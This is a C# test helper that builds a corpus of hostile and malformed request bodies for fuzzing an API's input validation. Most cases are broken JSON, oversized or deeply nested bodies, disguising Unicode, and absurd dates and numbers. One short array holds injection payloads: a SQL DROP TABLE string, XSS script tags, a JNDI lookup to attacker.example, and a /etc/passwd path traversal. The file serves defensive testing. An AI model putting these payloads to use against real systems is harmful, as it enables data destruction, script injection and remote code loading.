using System.Collections;
using System.Reflection;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;

namespace Provenance.Api.Tests.Access;

/// <summary>
/// The hostile-input corpus, and the request bodies it is made of: built from each endpoint's
/// request type by reflection, so a new field or a new endpoint is covered without listing it.
/// </summary>
internal static class HostileBodies
{
    public const string Json = "application/json";

    /// <summary>One body. <paramref name="Legitimate"/>: text that is only text, which a request otherwise valid may record (never a 5xx, though).</summary>
    public sealed record Case(string Name, Func<Type, string> Body, string ContentType = Json, bool Chunked = false, bool Legitimate = false);

    /// <summary>Text no field takes: control characters, disguising Unicode, text beyond any limit.</summary>
    private static readonly string[] MalformedText =
    [
        "EHR\u0000extract", "ansi \u001b[31mred\u001b[0m", "bell\u0007", "\u202Egnp.exe", "isolate \u2066x\u2069", "lone @SURROGATE@ surrogate", "\uFFFF",
        new string('x', 100_000),
    ];

    /// <summary>Text that looks like an attack on something other than the ledger: harmless as text, refused anywhere a typed value belongs.</summary>
    private static readonly string[] InjectionText =
    [
        "'; DROP TABLE provenance.events; --", "\" OR 1=1 --", "<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>",
        "{{7*7}} ${jndi:ldap://attacker.example/a}", "../../../../etc/passwd",
    ];

    private static readonly string[] AbsurdDates = ["99999-01-01", "0000-00-00", "2024-02-30", "-0001-01-01", "2024-1-1", "today"];

    private static readonly string[] AbsurdInstants =
        ["9999-12-31T23:59:59-14:00", "0001-01-01T00:00:00+14:00", "2024-13-01T00:00:00Z", "2024-01-01T25:00:00Z", "2024-01-01", "1e10"];

    private static readonly string[] AbsurdNumbers = ["1e400", "-1e400", "9223372036854775808", "-9223372036854775809", "1.5", "\"12\"", "true", "-0"];

    public static IEnumerable<Case> Corpus()
    {
        yield return new("broken JSON", _ => "{\"name\": ");
        yield return new("not JSON", _ => "plain words, not JSON");
        yield return new("a JSON array", _ => "[1, 2, 3]");
        yield return new("JSON null", _ => "null");
        yield return new("a JSON string", _ => "\"text\"");
        yield return new("an empty body", _ => "");
        yield return new("an unknown property", _ => "{\"patientName\": \"Jane Doe\"}");
        yield return new("a property given twice", t => $"{{\"{First(t)}\": null, \"{First(t)}\": null}}");
        yield return new("a body nested 200 deep", t => $"{{\"{First(t)}\": {new string('[', 200)}{new string(']', 200)}}}");
        yield return new("a body nested 200 deep at the root", _ => new string('[', 200) + new string(']', 200));
        yield return new("a 2 MiB body", t => $"{{\"{First(t)}\": \"{new string('x', 2 * 1024 * 1024)}\"}}");
        yield return new("a 2 MiB body without a length", t => $"{{\"{First(t)}\": \"{new string('x', 2 * 1024 * 1024)}\"}}", Chunked: true);
        yield return new("every property of the wrong kind", t => Fill(t, _ => new JsonArray(new JsonObject())).ToJsonString());
        yield return new("every property an object", t => Fill(t, _ => new JsonObject()).ToJsonString());
        for (var i = 0; i < MalformedText.Length; i++)
        {
            var text = MalformedText[i];
            yield return new($"malformed text #{i}", t => Fill(t, k => k == Kind.Text ? JsonValue.Create(text) : null).ToJsonString()
                .Replace("@SURROGATE@", "\\uD800", StringComparison.Ordinal));
        }

        for (var i = 0; i < InjectionText.Length; i++)
        {
            var text = InjectionText[i];
            yield return new($"injection text #{i} where typed values belong", t => Fill(t, k => k == Kind.Text ? null : JsonValue.Create(text)).ToJsonString());
            yield return new($"injection text #{i} as text", t => Fill(t, k => k == Kind.Text ? JsonValue.Create(text) : null).ToJsonString(), Legitimate: true);
        }

        foreach (var date in AbsurdDates)
        {
            yield return new($"the date {date}", t => Raw(Fill(t, k => k == Kind.Date ? JsonValue.Create("@@") : null), date));
        }

        foreach (var instant in AbsurdInstants)
        {
            yield return new($"the instant {instant}", t => Raw(Fill(t, k => k == Kind.Instant ? JsonValue.Create("@@") : null), instant));
        }

        foreach (var number in AbsurdNumbers)
        {
            yield return new($"the number {number}", t => Fill(t, k => k == Kind.Number ? JsonValue.Create("@@") : null).ToJsonString().Replace("\"@@\"", number, StringComparison.Ordinal));
        }

        yield return new("text/plain", _ => "{}", "text/plain");
        yield return new("application/xml", _ => "<dataset/>", "application/xml");
        yield return new("a form", _ => "name=x", "application/x-www-form-urlencoded");
        yield return new("multipart", _ => "--b\r\n\r\nx\r\n--b--", "multipart/form-data; boundary=b");
        yield return new("no content type", _ => "{}", "");
    }


    /// <summary>Every text field of a request type as a JSON path (lists as their first item).</summary>
    public static IEnumerable<string> TextPaths(Type type, string prefix, int depth = 0)
    {
        foreach (var property in type.GetProperties(BindingFlags.Public | BindingFlags.Instance).Where(p => p.GetIndexParameters().Length == 0))
        {
            var propertyType = Nullable.GetUnderlyingType(property.PropertyType) ?? property.PropertyType;
            var isList = propertyType != typeof(string) && propertyType.IsGenericType && typeof(IEnumerable).IsAssignableFrom(propertyType);
            var target = isList ? propertyType.GetGenericArguments()[0] : propertyType;
            var path = prefix + Name(property) + (isList ? "[0]" : "");
            if (target == typeof(string))
            {
                yield return path;
            }
            else if (target.IsClass && depth < 3 && target.Namespace?.StartsWith("Provenance", StringComparison.Ordinal) == true)
            {
                foreach (var nested in TextPaths(target, path + ".", depth + 1))
                {
                    yield return nested;
                }
            }
        }
    }

    /// <summary>A body holding only <paramref name="path"/> (such as <c>files[0].path</c>), set to <paramref name="value"/>.</summary>
    public static JsonObject Body(string path, string value)
    {
        var root = new JsonObject();
        JsonNode current = root;
        var segments = path.Split('.');
        for (var i = 0; i < segments.Length; i++)
        {
            var last = i == segments.Length - 1;
            var name = segments[i].Replace("[0]", "", StringComparison.Ordinal);
            var isList = segments[i].EndsWith("[0]", StringComparison.Ordinal);
            JsonNode next = last ? JsonValue.Create(value) : new JsonObject();
            current[name] = isList ? new JsonArray(next) : next;
            current = next;
        }

        return root;
    }

    /// <summary>A body sent chunked (no Content-Length), as the given media type.</summary>
    public static HttpContent Chunked(byte[] body, string contentType)
    {
        var content = new StreamContent(new UnknownLengthStream(body));
        content.Headers.TryAddWithoutValidation("Content-Type", contentType);
        return content;
    }

    public static HttpContent Content(Case @case, Type type)
    {
        var bytes = Encoding.UTF8.GetBytes(@case.Body(type));
        HttpContent content = @case.Chunked ? new StreamContent(new UnknownLengthStream(bytes)) : new ByteArrayContent(bytes);
        if (@case.ContentType.Length > 0)
        {
            content.Headers.TryAddWithoutValidation("Content-Type", @case.ContentType);
        }

        return content;
    }

    public static string Truncate(string text) => text.Length > 300 ? text[..300] + "…" : text;

    public enum Kind
    {
        Text,
        Date,
        Instant,
        Number,
        Other,
    }

    private static string First(Type type) => Name(type.GetProperties(BindingFlags.Public | BindingFlags.Instance)[0]);

    private static string Name(PropertyInfo property) => JsonNamingPolicy.CamelCase.ConvertName(property.Name);

    /// <summary>The request type as JSON with every property of some kinds set to a value (nested records and lists followed one level down).</summary>
    public static JsonObject Fill(Type type, Func<Kind, JsonNode?> value, int depth = 0)
    {
        var json = new JsonObject();
        foreach (var property in type.GetProperties(BindingFlags.Public | BindingFlags.Instance).Where(p => p.GetIndexParameters().Length == 0))
        {
            var propertyType = Nullable.GetUnderlyingType(property.PropertyType) ?? property.PropertyType;
            var item = propertyType != typeof(string) && typeof(IEnumerable).IsAssignableFrom(propertyType) && propertyType.IsGenericType
                ? propertyType.GetGenericArguments()[0]
                : null;
            var target = Nullable.GetUnderlyingType(item ?? propertyType) ?? item ?? propertyType;
            JsonNode? node = KindOf(target) is var kind and not Kind.Other ? value(kind)
                : target.IsClass && target != typeof(string) && depth < 2 && target.Namespace?.StartsWith("Provenance", StringComparison.Ordinal) == true
                    ? Fill(target, value, depth + 1)
                    : value(Kind.Other);
            if (node is not null)
            {
                json[Name(property)] = item is null ? node : new JsonArray(node);
            }
        }

        return json;
    }

    private static Kind KindOf(Type type) =>
        type == typeof(string) ? Kind.Text
        : type == typeof(DateOnly) ? Kind.Date
        : type == typeof(DateTimeOffset) ? Kind.Instant
        : type == typeof(int) || type == typeof(long) || type == typeof(decimal) || type == typeof(double) ? Kind.Number
        : Kind.Other;

    private static string Raw(JsonObject json, string value) => json.ToJsonString().Replace("\"@@\"", JsonSerializer.Serialize(value), StringComparison.Ordinal);

    /// <summary>A body sent chunked, with no Content-Length, so only reading it can find it too large.</summary>
    private sealed class UnknownLengthStream(byte[] bytes) : MemoryStream(bytes)
    {
        public override bool CanSeek => false;
    }
}
